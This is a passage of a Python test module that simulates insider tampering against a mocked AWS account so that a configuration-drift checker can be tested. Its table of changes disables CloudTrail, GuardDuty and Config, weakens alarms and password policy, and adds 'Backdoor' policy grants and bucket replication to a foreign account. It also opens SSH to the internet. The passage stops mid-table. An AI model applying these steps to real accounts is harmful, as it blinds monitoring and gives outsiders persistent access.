"""Out-of-band changes, one per resource type and compared input: what an insider with the
account's own credentials could do through the API (boto3 against moto's server), each on one
declared resource. `PLANTS` changes an input; `NOT_PLANTED` says, for every other compared
input, why there is no such change to make (AWS cannot change it in place, moto cannot, or the
input is the resource's identity: changing it leaves the declared resource missing, which
test_empty_account_everything_missing checks for every type). tests/attest/test_out_of_band.py
holds the two tables complete against coverage.COMPARED."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from tests.attest.provision import Provisioner

Plant = Callable[[Provisioner, dict[str, Any]], None]
OTHER = "999999999999"  # an account outside the organization
ALLOW_ALL = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def doc_plus(text: str, statement: dict[str, Any]) -> str:
    document = json.loads(text)
    document["Statement"] = (document["Statement"] if isinstance(document["Statement"], list) else [document["Statement"]]) + [statement]
    return json.dumps(document)


BACKDOOR = {"Sid": "Backdoor", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"}, "Action": "*", "Resource": "*"}
IDENTITY_BACKDOOR = {"Sid": "Backdoor", "Effect": "Allow", "Action": "*", "Resource": "*"}


def i(r: dict[str, Any]) -> dict[str, Any]:
    return r["inputs"]


def trail(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    d.c["cloudtrail"].update_trail(Name=i(r)["name"], **change)


def alarm(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    a = d.c["cloudwatch"].describe_alarms(AlarmNames=[i(r)["name"]])["MetricAlarms"][0]
    keep = {k: a[k] for k in ("AlarmName", "ComparisonOperator", "EvaluationPeriods", "MetricName", "Namespace", "Period",
                              "Statistic", "Threshold", "AlarmActions", "TreatMissingData") if k in a}
    d.c["cloudwatch"].put_metric_alarm(**{**keep, "AlarmDescription": a.get("AlarmDescription", ""), **change})


def password(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    p = d.c["iam"].get_account_password_policy()["PasswordPolicy"]
    keep = {k: v for k, v in p.items() if k not in ("ExpirePasswords",)}
    d.c["iam"].update_account_password_policy(**{**keep, **change})


def bucket_block(d: Provisioner, r: dict[str, Any], flag: str) -> None:
    current = d.c["s3"].get_public_access_block(Bucket=i(r)["bucket"])["PublicAccessBlockConfiguration"]
    d.c["s3"].put_public_access_block(Bucket=i(r)["bucket"], PublicAccessBlockConfiguration={**current, flag: False})


def account_block(d: Provisioner, r: dict[str, Any], flag: str) -> None:
    current = d.c["s3control"].get_public_access_block(AccountId=d.account)["PublicAccessBlockConfiguration"]
    d.c["s3control"].put_public_access_block(AccountId=d.account, PublicAccessBlockConfiguration={**current, flag: False})


def recorder(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    current = d.c["config"].describe_configuration_recorders()["ConfigurationRecorders"][0]
    d.c["config"].put_configuration_recorder(ConfigurationRecorder={**current, **change})


def channel(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    current = d.c["config"].describe_delivery_channels()["DeliveryChannels"][0]
    d.c["config"].put_delivery_channel(DeliveryChannel={**current, **change})


def config_rule(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    current = d.c["config"].describe_config_rules(ConfigRuleNames=[i(r)["name"]])["ConfigRules"][0]
    body = {k: current[k] for k in ("ConfigRuleName", "Source", "InputParameters", "Scope") if k in current}
    d.c["config"].put_config_rule(ConfigRule={**body, **change})


def instance_id(d: Provisioner, r: dict[str, Any]) -> str:
    return d.live(r["outputs"]["id"])


def new_version(d: Provisioner, r: dict[str, Any], **data: Any) -> None:
    """A new launch template version made the default (what a console edit does)."""
    template = d.live(r["outputs"]["id"])
    current = d.c["ec2"].describe_launch_template_versions(LaunchTemplateId=template, Versions=["$Default"])["LaunchTemplateVersions"][0]
    version = d.c["ec2"].create_launch_template_version(LaunchTemplateId=template, SourceVersion="$Default",
                                                        VersionDescription=data.pop("VersionDescription", current.get("VersionDescription", "")),
                                                        LaunchTemplateData=data)["LaunchTemplateVersion"]["VersionNumber"]
    d.c["ec2"].modify_launch_template(LaunchTemplateId=template, DefaultVersion=str(version))


def metric_filter(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    """The filter put again (PutMetricFilter replaces it) with one setting changed."""
    logs = d.c["logs"]
    current = next(f for f in logs.describe_metric_filters(logGroupName=i(r)["logGroupName"])["metricFilters"]
                   if f["filterName"] == i(r)["name"])
    transformation = {k: v for k, v in current["metricTransformations"][0].items() if k in ("metricName", "metricNamespace", "metricValue")}
    if "metricName" in change:
        transformation["metricName"] = change.pop("metricName")
    logs.delete_metric_filter(logGroupName=i(r)["logGroupName"], filterName=i(r)["name"])  # moto adds rather than replaces
    logs.put_metric_filter(logGroupName=i(r)["logGroupName"], filterName=i(r)["name"],
                           **{"filterPattern": current["filterPattern"], **change}, metricTransformations=[transformation])


def event_rule(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    current = d.c["events"].describe_rule(Name=i(r)["name"])
    d.c["events"].put_rule(**{"Name": i(r)["name"], "EventPattern": current["EventPattern"],
                              "Description": current.get("Description", ""), **change})


def other_key(d: Provisioner) -> str:
    return d.c["kms"].create_key(Description="out of band")["KeyMetadata"]["Arn"]


def acl_rules(egress: bool) -> Callable[[Provisioner, dict[str, Any]], None]:
    def plant(d: Provisioner, r: dict[str, Any]) -> None:
        acl = d.live(i(r).get("defaultNetworkAclId") or r["outputs"]["id"])
        d.c["ec2"].create_network_acl_entry(NetworkAclId=acl, RuleNumber=90, Protocol="6", RuleAction="allow", Egress=egress,
                                            CidrBlock="0.0.0.0/0", PortRange={"From": 22, "To": 22})
    return plant


def sg_rule(direction: str, default: bool = False) -> Callable[[Provisioner, dict[str, Any]], None]:
    def plant(d: Provisioner, r: dict[str, Any]) -> None:
        group = d.live(r["outputs"]["id"]) if not default else d.c["ec2"].describe_security_groups(Filters=[
            {"Name": "vpc-id", "Values": [d.live(i(r)["vpcId"])]}, {"Name": "group-name", "Values": ["default"]}])["SecurityGroups"][0]["GroupId"]
        call = d.c["ec2"].authorize_security_group_ingress if direction == "ingress" else d.c["ec2"].authorize_security_group_egress
        call(GroupId=group, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    return plant


def tag(kind_of_id: str = "id") -> Callable[[Provisioner, dict[str, Any]], None]:
    def plant(d: Provisioner, r: dict[str, Any]) -> None:
        resource = d.live(i(r).get("defaultNetworkAclId") or i(r).get("defaultRouteTableId") or r["outputs"][kind_of_id])
        d.c["ec2"].create_tags(Resources=[resource], Tags=[{"Key": "owner", "Value": "out-of-band"}])
    return plant


def group(d: Provisioner, r: dict[str, Any], **change: Any) -> None:
    d.c["autoscaling"].update_auto_scaling_group(AutoScalingGroupName=i(r)["name"], **change)


def other_subnet(d: Provisioner, r: dict[str, Any]) -> str:
    """A subnet of the center's VPC the group does not use (another zone's)."""
    subnets = d.live(i(r)["vpcZoneIdentifiers"])
    vpc = d.c["ec2"].describe_subnets(SubnetIds=subnets[:1])["Subnets"][0]["VpcId"]
    return next(s["SubnetId"] for s in d.c["ec2"].describe_subnets(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["Subnets"]
                if s["SubnetId"] not in subnets)


def group_template_version(d: Provisioner, r: dict[str, Any]) -> None:
    """The group moved to a new version of its template (IMDSv1 allowed), the template's default unchanged."""
    template = d.live(i(r)["launchTemplate"]["id"])
    version = d.c["ec2"].create_launch_template_version(LaunchTemplateId=template, SourceVersion="1", LaunchTemplateData={
        "MetadataOptions": {"HttpTokens": "optional"}})["LaunchTemplateVersion"]["VersionNumber"]
    group(d, r, LaunchTemplate={"LaunchTemplateId": template, "Version": str(version)})


def queue_url(d: Provisioner, r: dict[str, Any]) -> str:
    return d.live(r["outputs"]["id"])


def queue_attribute(d: Provisioner, r: dict[str, Any], name: str, value: str) -> None:
    d.c["sqs"].set_queue_attributes(QueueUrl=queue_url(d, r), Attributes={name: value})


def dead_letters(d: Provisioner, r: dict[str, Any]) -> None:
    """Jobs that fail are moved to a queue of the owner's (where anyone it allows may read them)."""
    url = d.c["sqs"].create_queue(QueueName="dead-letters")["QueueUrl"]
    arn = d.c["sqs"].get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    queue_attribute(d, r, "RedrivePolicy", json.dumps({"deadLetterTargetArn": arn, "maxReceiveCount": "1"}))


def notification(d: Provisioner, r: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> None:
    """The bucket's one notification configuration read, changed, put again."""
    config = d.c["s3"].get_bucket_notification_configuration(Bucket=i(r)["bucket"])
    config.pop("ResponseMetadata", None)
    change(config)
    d.c["s3"].put_bucket_notification_configuration(Bucket=i(r)["bucket"], NotificationConfiguration=config)


def repoint_queue(d: Provisioner, r: dict[str, Any]) -> None:
    url = d.c["sqs"].create_queue(QueueName="samples-elsewhere")["QueueUrl"]
    arn = d.c["sqs"].get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    notification(d, r, lambda c: c.update(QueueConfigurations=[{**q, "QueueArn": arn} for q in c.get("QueueConfigurations", [])]
                                          or [{"QueueArn": arn, "Events": ["s3:ObjectCreated:*"]}]))  # none declared: one added


def add_topic(d: Provisioner, r: dict[str, Any]) -> None:
    topic = d.c["sns"].create_topic(Name="sample-copies")["TopicArn"]
    notification(d, r, lambda c: c.update(TopicConfigurations=[{"TopicArn": topic, "Events": ["s3:ObjectCreated:*"],
                                                                 "Filter": {"Key": {"FilterRules": [{"Name": "prefix", "Value": "verdicts/"}]}}}]))


T = "aws:"
PLANTS: dict[tuple[str, str], Plant] = {
    # --- audit -------------------------------------------------------------------------------
    (T + "cloudtrail/trail:Trail", "enableLogging"): lambda d, r: d.c["cloudtrail"].stop_logging(Name=i(r)["name"]),
    (T + "cloudtrail/trail:Trail", "enableLogFileValidation"): lambda d, r: trail(d, r, EnableLogFileValidation=False),
    (T + "cloudtrail/trail:Trail", "isMultiRegionTrail"): lambda d, r: trail(d, r, IsMultiRegionTrail=False),
    (T + "cloudtrail/trail:Trail", "includeGlobalServiceEvents"): lambda d, r: trail(d, r, IncludeGlobalServiceEvents=False,
                                                                                    IsMultiRegionTrail=False),
    (T + "cloudtrail/trail:Trail", "s3KeyPrefix"): lambda d, r: trail(d, r, S3KeyPrefix="elsewhere"),
    (T + "cloudtrail/trail:Trail", "s3BucketName"): lambda d, r: trail(d, r, S3BucketName=i(r)["s3BucketName"].replace(
        "audit-archive", "access-logs")),
    (T + "cloudtrail/trail:Trail", "kmsKeyId"): lambda d, r: trail(d, r, KmsKeyId=other_key(d)),
    (T + "cloudtrail/trail:Trail", "advancedEventSelectors"): lambda d, r: d.c["cloudtrail"].put_event_selectors(
        TrailName=i(r)["name"], AdvancedEventSelectors=[{"Name": "management only", "FieldSelectors": [
            {"Field": "eventCategory", "Equals": ["Management"]}]}]),
    (T + "cloudtrail/trail:Trail", "cloudWatchLogsGroupArn"): lambda d, r: trail(d, r, CloudWatchLogsLogGroupArn="", CloudWatchLogsRoleArn=""),
    (T + "cloudtrail/trail:Trail", "cloudWatchLogsRoleArn"): lambda d, r: trail(
        d, r, CloudWatchLogsLogGroupArn=d.live(i(r)["cloudWatchLogsGroupArn"]),
        CloudWatchLogsRoleArn=d.live(i(r)["cloudWatchLogsRoleArn"]).replace("cloudtrail-logs", "vpc-flow-logs")),
    (T + "cloudwatch/logGroup:LogGroup", "retentionInDays"): lambda d, r: d.c["logs"].put_retention_policy(
        logGroupName=i(r)["name"], retentionInDays=1),
    (T + "cloudwatch/logMetricFilter:LogMetricFilter", "pattern"): lambda d, r: metric_filter(d, r, filterPattern='{ $.eventName = "Nothing" }'),
    (T + "cloudwatch/logMetricFilter:LogMetricFilter", "metricTransformation"): lambda d, r: metric_filter(d, r, metricName="unwatched"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "alarmActions"): lambda d, r: alarm(d, r, AlarmActions=[]),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "alarmDescription"): lambda d, r: alarm(d, r, AlarmDescription="ignore"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "comparisonOperator"): lambda d, r: alarm(d, r, ComparisonOperator="LessThanThreshold"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "evaluationPeriods"): lambda d, r: alarm(d, r, EvaluationPeriods=100),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "metricName"): lambda d, r: alarm(d, r, MetricName="unwatched"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "namespace"): lambda d, r: alarm(d, r, Namespace="Elsewhere"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "period"): lambda d, r: alarm(d, r, Period=86400),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "statistic"): lambda d, r: alarm(d, r, Statistic="Minimum"),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "threshold"): lambda d, r: alarm(d, r, Threshold=1000000.0),
    (T + "cloudwatch/metricAlarm:MetricAlarm", "treatMissingData"): lambda d, r: alarm(d, r, TreatMissingData="ignore"),
    (T + "cloudwatch/eventRule:EventRule", "eventPattern"): lambda d, r: event_rule(d, r, EventPattern=json.dumps({"source": ["aws.nothing"]})),
    (T + "cloudwatch/eventRule:EventRule", "description"): lambda d, r: event_rule(d, r, Description="changed"),
    (T + "sns/topic:Topic", "kmsMasterKeyId"): lambda d, r: d.c["sns"].set_topic_attributes(
        TopicArn=d.live(r["outputs"]["arn"]), AttributeName="KmsMasterKeyId", AttributeValue=""),
    (T + "sns/topicPolicy:TopicPolicy", "policy"): lambda d, r: d.c["sns"].set_topic_attributes(
        TopicArn=d.live(i(r)["arn"]), AttributeName="Policy", AttributeValue=doc_plus(d.live(i(r)["policy"]), BACKDOOR)),
    (T + "cfg/recorderStatus:RecorderStatus", "isEnabled"): lambda d, r: d.c["config"].stop_configuration_recorder(
        ConfigurationRecorderName=i(r)["name"]),
    (T + "cfg/recorder:Recorder", "recordingGroup"): lambda d, r: recorder(d, r, recordingGroup={
        "allSupported": False, "includeGlobalResourceTypes": False, "resourceTypes": ["AWS::S3::Bucket"]}),
    (T + "cfg/recorder:Recorder", "roleArn"): lambda d, r: recorder(d, r, roleARN=f"arn:aws:iam::{d.account}:role/elsewhere"),
    (T + "cfg/deliveryChannel:DeliveryChannel", "s3BucketName"): lambda d, r: channel(d, r, s3BucketName=i(r)["s3BucketName"].replace(
        "audit-archive", "access-logs")),
    (T + "cfg/deliveryChannel:DeliveryChannel", "s3KeyPrefix"): lambda d, r: channel(d, r, s3KeyPrefix="elsewhere"),
    (T + "cfg/deliveryChannel:DeliveryChannel", "s3KmsKeyArn"): lambda d, r: channel(d, r, s3KmsKeyArn=other_key(d)),
    (T + "cfg/deliveryChannel:DeliveryChannel", "snapshotDeliveryProperties"): lambda d, r: channel(
        d, r, configSnapshotDeliveryProperties={"deliveryFrequency": "TwentyFour_Hours" if (i(r).get("snapshotDeliveryProperties") or {})
                                                .get("deliveryFrequency") != "TwentyFour_Hours" else "One_Hour"}),
    # Another managed rule takes none of this rule's parameters (AWS Config refuses unknown ones).
    (T + "cfg/rule:Rule", "source"): lambda d, r: config_rule(d, r, Source={"Owner": "AWS", "SourceIdentifier": "S3_BUCKET_VERSIONING_ENABLED"},
                                                              InputParameters="{}"),
    (T + "cfg/rule:Rule", "inputParameters"): lambda d, r: config_rule(d, r, InputParameters=json.dumps(
        {k: "REJECT" if v == "ALL" else f"{v}0" for k, v in json.loads(i(r)["inputParameters"]).items()})),
    (T + "cfg/rule:Rule", "scope"): lambda d, r: config_rule(d, r, Scope={"ComplianceResourceTypes": ["AWS::S3::Bucket"]}),
    (T + "guardduty/detector:Detector", "enable"): lambda d, r: d.c["guardduty"].update_detector(
        DetectorId=d.live(r["outputs"]["id"]), Enable=False),
    (T + "guardduty/detector:Detector", "findingPublishingFrequency"): lambda d, r: d.c["guardduty"].update_detector(
        DetectorId=d.live(r["outputs"]["id"]), FindingPublishingFrequency="SIX_HOURS"),
    (T + "guardduty/detectorFeature:DetectorFeature", "status"): lambda d, r: d.c["guardduty"].update_detector(
        DetectorId=d.live(i(r)["detectorId"]), Features=[{"Name": i(r)["name"], "Status": "DISABLED"}]),
    (T + "ssm/document:Document", "content"): lambda d, r: set_document(d, r, lambda c: {**c, "inputs": {
        **c["inputs"], "s3BucketName": "", "cloudWatchLogGroupName": "", "cloudWatchStreamingEnabled": False}}),
    (T + "ssm/document:Document", "tags"): lambda d, r: d.c["ssm"].add_tags_to_resource(
        ResourceType="Document", ResourceId=i(r)["name"], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    # --- account settings ----------------------------------------------------------------------
    (T + "ebs/encryptionByDefault:EncryptionByDefault", "enabled"): lambda d, r: d.c["ec2"].disable_ebs_encryption_by_default(),
    **{(T + "s3/accountPublicAccessBlock:AccountPublicAccessBlock", flag): (lambda f: lambda d, r: account_block(d, r, f))(
        flag[0].upper() + flag[1:]) for flag in ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")},
    **{(T + "iam/accountPasswordPolicy:AccountPasswordPolicy", field): (lambda c: lambda d, r: password(d, r, **c))(change)
       for field, change in {
           "allowUsersToChangePassword": {"AllowUsersToChangePassword": False}, "hardExpiry": {"HardExpiry": True},
           "maxPasswordAge": {"MaxPasswordAge": 1000}, "minimumPasswordLength": {"MinimumPasswordLength": 6},
           "passwordReusePrevention": {"PasswordReusePrevention": 1}, "requireLowercaseCharacters": {"RequireLowercaseCharacters": False},
           "requireNumbers": {"RequireNumbers": False}, "requireSymbols": {"RequireSymbols": False},
           "requireUppercaseCharacters": {"RequireUppercaseCharacters": False}}.items()},
    # --- IAM -------------------------------------------------------------------------------------
    (T + "iam/role:Role", "assumeRolePolicy"): lambda d, r: d.c["iam"].update_assume_role_policy(
        RoleName=i(r)["name"], PolicyDocument=doc_plus(d.live(i(r)["assumeRolePolicy"]), {
            "Sid": "Backdoor", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"}, "Action": "sts:AssumeRole"})),
    (T + "iam/role:Role", "permissionsBoundary"): lambda d, r: d.c["iam"].delete_role_permissions_boundary(RoleName=i(r)["name"]),
    (T + "iam/role:Role", "maxSessionDuration"): lambda d, r: d.c["iam"].update_role(RoleName=i(r)["name"], MaxSessionDuration=43200),
    (T + "iam/role:Role", "description"): lambda d, r: d.c["iam"].update_role_description(RoleName=i(r)["name"], Description="changed"),
    (T + "iam/role:Role", "tags"): lambda d, r: d.c["iam"].tag_role(RoleName=i(r)["name"], Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    (T + "iam/rolePolicy:RolePolicy", "policy"): lambda d, r: d.c["iam"].put_role_policy(
        RoleName=i(r)["role"], PolicyName=i(r).get("name") or autoname_of(r), PolicyDocument=doc_plus(d.live(i(r)["policy"]), IDENTITY_BACKDOOR)),
    (T + "iam/policy:Policy", "policy"): lambda d, r: d.c["iam"].create_policy_version(
        PolicyArn=d.live(r["outputs"]["arn"]), PolicyDocument=ALLOW_ALL, SetAsDefault=True),
    (T + "iam/policy:Policy", "tags"): lambda d, r: d.c["iam"].tag_policy(PolicyArn=d.live(r["outputs"]["arn"]),
                                                                         Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    (T + "iam/instanceProfile:InstanceProfile", "role"): lambda d, r: (
        d.c["iam"].remove_role_from_instance_profile(InstanceProfileName=i(r)["name"], RoleName=i(r)["role"])),
    # --- KMS -------------------------------------------------------------------------------------
    (T + "kms/key:Key", "policy"): lambda d, r: d.c["kms"].put_key_policy(
        KeyId=d.live(r["outputs"]["id"]), PolicyName="default", Policy=doc_plus(d.live(i(r)["policy"]), BACKDOOR),
        BypassPolicyLockoutSafetyCheck=True),
    (T + "kms/key:Key", "tags"): lambda d, r: d.c["kms"].tag_resource(
        KeyId=d.live(r["outputs"]["id"]), Tags=[{"TagKey": "owner", "TagValue": "out-of-band"}]),
    (T + "cloudwatch/eventTarget:EventTarget", "roleArn"): lambda d, r: d.c["events"].put_targets(
        Rule=i(r)["rule"], Targets=[{"Id": i(r).get("targetId") or r["name"], "Arn": d.live(i(r)["arn"]),
                                     "RoleArn": f"arn:aws:iam::{d.account}:role/out-of-band"}]),
    (T + "kms/key:Key", "enableKeyRotation"): lambda d, r: d.c["kms"].disable_key_rotation(KeyId=d.live(r["outputs"]["id"])),
    (T + "kms/key:Key", "description"): lambda d, r: d.c["kms"].update_key_description(KeyId=d.live(r["outputs"]["id"]), Description="changed"),
    (T + "kms/key:Key", "keyState"): lambda d, r: d.c["kms"].disable_key(KeyId=d.live(r["outputs"]["id"])),
    (T + "kms/alias:Alias", "targetKeyId"): lambda d, r: d.c["kms"].update_alias(AliasName=i(r)["name"], TargetKeyId=other_key(d)),
    # --- storage ---------------------------------------------------------------------------------
    (T + "s3/bucketPolicy:BucketPolicy", "policy"): lambda d, r: d.c["s3"].put_bucket_policy(
        Bucket=i(r)["bucket"], Policy=doc_plus(d.live(i(r)["policy"]), {**BACKDOOR, "Action": "s3:GetObject",
                                                                            "Resource": f"arn:aws:s3:::{i(r)['bucket']}/*"})),
    **{(T + "s3/bucketPublicAccessBlock:BucketPublicAccessBlock", flag): (lambda f: lambda d, r: bucket_block(d, r, f))(
        flag[0].upper() + flag[1:]) for flag in ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")},
    (T + "s3/bucketVersioning:BucketVersioning", "versioningConfiguration"): lambda d, r: d.c["s3"].put_bucket_versioning(
        Bucket=i(r)["bucket"], VersioningConfiguration={"Status": "Suspended"}),
    (T + "s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", "rules"): lambda d, r: d.c["s3"].put_bucket_encryption(
        Bucket=i(r)["bucket"], ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]}),
    (T + "s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration", "rule"): lambda d, r: d.c["s3"].put_object_lock_configuration(
        Bucket=i(r)["bucket"], ObjectLockConfiguration={"ObjectLockEnabled": "Enabled", "Rule": {"DefaultRetention": {
            "Mode": "GOVERNANCE" if i(r)["rule"]["defaultRetention"]["mode"] == "COMPLIANCE" else "COMPLIANCE", "Days": 1}}}),
    (T + "s3/bucketOwnershipControls:BucketOwnershipControls", "rule"): lambda d, r: d.c["s3"].put_bucket_ownership_controls(
        Bucket=i(r)["bucket"], OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]}),
    (T + "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "rules"): lambda d, r: d.c["s3"].put_bucket_lifecycle_configuration(
        Bucket=i(r)["bucket"], LifecycleConfiguration={"Rules": [{"ID": "expire-everything", "Status": "Enabled", "Filter": {"Prefix": ""},
                                                                    "Expiration": {"Days": 1}}]}),
    (T + "s3/bucketLogging:BucketLogging", "targetPrefix"): lambda d, r: log_elsewhere(d, r),
    (T + "s3/bucket:Bucket", "tags"): lambda d, r: d.c["s3"].put_bucket_tagging(Bucket=i(r)["bucket"], Tagging={"TagSet": [
        {"Key": "owner", "Value": "out-of-band"}]}),
    (T + "s3/bucket:Bucket", "replication"): lambda d, r: d.c["s3"].put_bucket_replication(Bucket=i(r)["bucket"], ReplicationConfiguration={
        "Role": f"arn:aws:iam::{d.account}:role/replicate", "Rules": [{"ID": "out", "Status": "Enabled", "Priority": 1, "Filter": {"Prefix": ""},
                                                                     "DeleteMarkerReplication": {"Status": "Disabled"},
                                                                     "Destination": {"Bucket": "arn:aws:s3:::elsewhere", "Account": OTHER}}]}),
    (T + "s3/bucket:Bucket", "acl"): lambda d, r: (
        d.c["s3"].put_bucket_ownership_controls(Bucket=i(r)["bucket"], OwnershipControls={"Rules": [{"ObjectOwnership": "BucketOwnerPreferred"}]}),
        d.c["s3"].put_bucket_acl(Bucket=i(r)["bucket"], GrantRead=f"id={'a' * 64}")),
    (T + "dynamodb/table:Table", "pointInTimeRecovery"): lambda d, r: d.c["dynamodb"].update_continuous_backups(
        TableName=i(r)["name"], PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": False}),
    (T + "dynamodb/table:Table", "billingMode"): lambda d, r: d.c["dynamodb"].update_table(
        TableName=i(r)["name"], BillingMode="PROVISIONED", ProvisionedThroughput={"ReadCapacityUnits": 1, "WriteCapacityUnits": 1}),
    (T + "dynamodb/table:Table", "tags"): lambda d, r: d.c["dynamodb"].tag_resource(
        ResourceArn=d.live(r["outputs"]["arn"]), Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    (T + "dynamodb/resourcePolicy:ResourcePolicy", "policy"): lambda d, r: d.c["dynamodb"].put_resource_policy(
        ResourceArn=d.live(i(r)["resourceArn"]), Policy=doc_plus(d.live(i(r)["policy"]), {**BACKDOOR, "Action": "dynamodb:GetItem",
                                                                                           "Resource": d.live(i(r)["resourceArn"])})),
    # --- network ---------------------------------------------------------------------------------
    (T + "ec2/vpc:Vpc", "enableDnsSupport"): lambda d, r: d.c["ec2"].modify_vpc_attribute(
        VpcId=d.live(r["outputs"]["id"]), EnableDnsSupport={"Value": not i(r).get("enableDnsSupport", True)}),
    (T + "ec2/vpc:Vpc", "enableDnsHostnames"): lambda d, r: d.c["ec2"].modify_vpc_attribute(
        VpcId=d.live(r["outputs"]["id"]), EnableDnsHostnames={"Value": not i(r).get("enableDnsHostnames", False)}),
    (T + "ec2/subnet:Subnet", "mapPublicIpOnLaunch"): lambda d, r: d.c["ec2"].modify_subnet_attribute(
        SubnetId=d.live(r["outputs"]["id"]), MapPublicIpOnLaunch={"Value": True}),
    (T + "ec2/subnet:Subnet", "assignIpv6AddressOnCreation"): lambda d, r: d.c["ec2"].modify_subnet_attribute(
        SubnetId=d.live(r["outputs"]["id"]), AssignIpv6AddressOnCreation={"Value": True}),
    (T + "ec2/securityGroup:SecurityGroup", "ingress"): sg_rule("ingress"),
    (T + "ec2/securityGroup:SecurityGroup", "egress"): sg_rule("egress"),
    (T + "ec2/defaultSecurityGroup:DefaultSecurityGroup", "ingress"): sg_rule("ingress", default=True),
    (T + "ec2/defaultSecurityGroup:DefaultSecurityGroup", "egress"): sg_rule("egress", default=True),
    (T + "ec2/defaultSecurityGroup:DefaultSecurityGroup", "tags"): lambda d, r: d.c["ec2"].create_tags(
        Resources=[d.c["ec2"].describe_security_groups(Filters=[{"Name": "vpc-id", "Values": [d.live(i(r)["vpcId"])]},
                                                                 {"Name": "group-name", "Values": ["default"]}])["SecurityGroups"][0]["GroupId"]],
        Tags=[{"Key": "owner", "Value": "out-of-band"}]),
    (T + "ec2/networkAcl:NetworkAcl", "ingress"): acl_rules(False),
    (T + "ec2/networkAcl:NetworkAcl", "egress"): acl_rules(True),
    (T + "ec2/defaultNetworkAcl:DefaultNetworkAcl", "ingress"): acl_rules(False),
    (T + "ec2/defaultNetworkAcl:DefaultNetworkAcl", "egress"): acl_rules(True),
    (T + "ec2/defaultNetworkAcl:DefaultNetworkAcl", "tags"): tag(),
    (T + "ec2/defaultRouteTable:DefaultRouteTable", "tags"): tag(),
    (T + "ec2/defaultRouteTable:DefaultRouteTable", "routes"): lambda d, r: d.c["ec2"].create_route(
        RouteTableId=d.live(i(r)["defaultRouteTableId"]), DestinationCidrBlock="0.0.0.0/0",
        GatewayId=d.c["ec2"].create_internet_gateway()["InternetGateway"]["InternetGatewayId"]),
    (T + "ec2/networkAcl:NetworkAcl", "subnetIds"): lambda d, r: move_subnet_acl(d, r),
    (T + "ec2/routeTableAssociation:RouteTableAssociation", "routeTableId"): lambda d, r: d.c["ec2"].replace_route_table_association(
        AssociationId=d.live(r["outputs"]["id"]), RouteTableId=d.c["ec2"].create_route_table(VpcId=d.c["ec2"].describe_subnets(
            SubnetIds=[d.live(i(r)["subnetId"])])["Subnets"][0]["VpcId"])["RouteTable"]["RouteTableId"]),
    (T + "ec2/vpcEndpoint:VpcEndpoint", "policy"): lambda d, r: d.c["ec2"].modify_vpc_endpoint(
        VpcEndpointId=d.live(r["outputs"]["id"]), PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
            {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]})),
    (T + "ec2/vpcEndpoint:VpcEndpoint", "routeTableIds"): lambda d, r: d.c["ec2"].modify_vpc_endpoint(
        VpcEndpointId=d.live(r["outputs"]["id"]), RemoveRouteTableIds=d.live(i(r)["routeTableIds"])[:1]),
    (T + "ec2/vpcEndpoint:VpcEndpoint", "subnetIds"): lambda d, r: d.c["ec2"].modify_vpc_endpoint(
        VpcEndpointId=d.live(r["outputs"]["id"]), RemoveSubnetIds=d.live(i(r)["subnetIds"])[:1]),
    (T + "ec2/vpcEndpoint:VpcEndpoint", "securityGroupIds"): lambda d, r: d.c["ec2"].modify_vpc_endpoint(
        VpcEndpointId=d.live(r["outputs"]["id"]), AddSecurityGroupIds=[d.c["ec2"].create_security_group(
            GroupName="oob-endpoint", Description="out of band", VpcId=d.live(i(r)["vpcId"]))["GroupId"]]),
    (T + "ec2/flowLog:FlowLog", "trafficType"): lambda d, r: replace_flow_log(d, r, TrafficType="REJECT"),
    (T + "ec2/flowLog:FlowLog", "iamRoleArn"): lambda d, r: replace_flow_log(d, r, DeliverLogsPermissionArn=f"arn:aws:iam::{d.account}:role/other"),
    (T + "ec2/flowLog:FlowLog", "maxAggregationInterval"): lambda d, r: replace_flow_log(d, r, MaxAggregationInterval=600),
    # --- the analysis cells (issue 28) ------------------------------------------------------------
    # before the launch template changes: a group that launches takes its template's (changed) data
    # in this order on the one group: bigger first, so a smaller minimum and a desired size fit
